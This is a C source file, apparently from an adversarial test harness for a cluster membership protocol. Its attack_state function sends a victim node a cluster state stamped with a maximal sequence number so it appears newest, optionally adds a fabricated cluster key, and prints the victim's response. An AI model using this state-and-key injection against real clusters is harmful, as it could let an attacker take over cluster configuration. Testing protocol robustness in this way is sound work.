/* SPDX-License-Identifier: Apache-2.0 */
#include "member.h"
#include <err.h>
#include <mvmp.pb-c.h>
#include <mvmp/keyfile.h>
#include <mvmp/verb.h>
#include <stdlib.h>

/* Hands a cluster state to the victim under a number that makes it look newer, and with the word
 * "key" a made-up cluster key as the newest; prints what the victim said. */

static void on_answer(void *ctx, const struct mvmp_answer *answer)
{
	struct member *member = ctx;

	printf("status %s\n", mvmp_status_name(answer->error.status));
	ev_break(member->loop, EVBREAK_ALL);
}

int attack_state(struct attack *attack)
{
	static uint8_t document[MVMP_CLUSTER_MAX], body[MVMP_CLUSTER_MAX + 128];
	uint8_t key[MVMP_KEY_LEN];
	Mvmp__ClusterExchange exchange = MVMP__CLUSTER_EXCHANGE__INIT;
	struct mvmp_addr addr = member_victim(attack);
	struct mvmp_target target = {.addr = &addr, .role = MVMP_ROLE_NODE};
	uint64_t now = mvmp_now();
	struct member member;
	struct mvmp_error e;
	int len = attack->argc
			  ? mvmp_keyfile_read(&mvmp_cluster_state, attack->argv[0], document, &e)
			  : -1;

	if (len < 0)
		errx(1, "which cluster state?");
	exchange.number = UINT64_MAX;
	exchange.document.data = document;
	exchange.document.len = (size_t)len;
	if (attack->argc > 1) {
		mvmp_random_os(NULL, key, sizeof key);
		exchange.generation = UINT32_MAX;
		exchange.key = (ProtobufCBinaryData){sizeof key, key};
	}
	member_begin(&member, attack, false, NULL, NULL);
	if (!mvmp_client_call(mvmp_run_client(member.run), &target, MVMP_VERB_CLUSTER_EXCHANGE,
		    body, mvmp__cluster_exchange__pack(&exchange, body), NULL,
		    now + 5 * MVMP_NS_PER_S, on_answer, &member, now, &e))
		errx(1, "%s", e.text);
	ev_run(member.loop, 0);
	member_end(&member);
	return 0;
}
